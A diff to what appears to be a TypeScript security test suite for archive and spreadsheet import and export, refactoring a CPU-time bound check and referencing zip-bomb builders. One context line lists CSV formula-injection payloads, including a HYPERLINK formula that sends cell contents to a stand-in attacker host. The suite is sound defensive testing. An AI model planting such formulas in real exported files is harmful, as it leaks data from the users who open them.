@@ -1,9 +1,8 @@
 /** Imports of archives and tables, and the tables that an export writes. */
 import { type Case, type Context, must } from '../case.ts';
 import { type Answer, ask, brief, hasStatus, refused, upload } from '../http.ts';
-import { staysAwake } from '../measure.ts';
+import { costsLittle, staysAwake } from '../measure.ts';
 import { clipFile, type People } from '../people.ts';
-import { processorSeconds } from '../process.ts';
 import type { Server } from '../server.ts';
 import { unzip, type ZipEntry, zip, zip64Claiming, zip64Pointing, zipEnd } from '../zip.ts';
 import { freshPeople, withPeople } from './a-sign-in.ts';
@@ -55,18 +54,8 @@ const cellsOf = (table: string): string[] =>
 
 const formulas = ['=HYPERLINK("http://evil.invalid/?x="&A1,"fox")', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
 
-async function bounded(
-  context: Context,
-  server: Peopled,
-  seconds: number,
-  attack: () => Promise<unknown>,
-): Promise<void> {
-  const before = processorSeconds(server.pid);
-  await staysAwake(context, server, attack);
-  const spent = processorSeconds(server.pid) - before;
-  context.note('processor seconds', Math.round(spent * 10) / 10);
-  must(spent <= seconds, `${Math.round(spent)} s of processor time`);
-}
+const bounded = (context: Context, server: Peopled, seconds: number, attack: () => Promise<unknown>): Promise<void> =>
+  costsLittle(context, server, seconds, () => staysAwake(context, server, attack));
 
 export const archives: readonly Case[] = [
   {
